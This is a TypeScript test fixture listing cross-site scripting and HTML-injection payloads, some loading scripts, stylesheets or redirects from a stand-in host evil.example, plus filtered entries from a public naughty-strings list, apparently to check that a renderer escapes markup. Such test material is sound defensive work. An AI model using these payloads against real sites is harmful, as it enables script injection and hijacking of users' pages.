/** Texts that would run a script, or send a request to another host, if a page took them for markup. */

import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

export const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</code></pre></details><iframe src="https://evil.example/"></iframe>',
  "</title></style><script src=//evil.example/x.js></script>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import url(//evil.example/x.css)</style>",
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '" onfocus=alert(1) autofocus tabindex=0 x="',
  "<details open ontoggle=alert(1)>",
  "<!--><img src=//evil.example/x onerror=alert(1)>-->",
  "javascript:alert(1)//",
  "data:text/html,<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=//evil.example/x&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\",
  "<a href=//evil.example/x ping=//evil.example/y autofocus onfocus=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
];

const file = createRequire(import.meta.url).resolve("big-list-of-naughty-strings");

/** From a public list of strings that have broken programs: those with markup, a `javascript:` address or an event handler. */
export const publicAttacks: readonly string[] = [
  ...new Set(JSON.parse(readFileSync(file, "utf8")) as string[]),
].filter((text) => /<|javascript:|\bon\w+\s*=/i.test(text));

/** Strings with escapes such as `\x09`, decoded. No snapshot accepts U+0000. */
export const decodedAttacks: readonly string[] = publicAttacks
  .filter((text) => /\\x[0-9A-F]{2}/i.test(text))
  .map((text) =>
    text.replace(/(?:\\x[0-9A-F]{2})+/gi, (bytes) =>
      Buffer.from(bytes.replaceAll("\\x", ""), "hex").toString(),
    ),
  )
  .filter((text) => !text.includes("\0"));
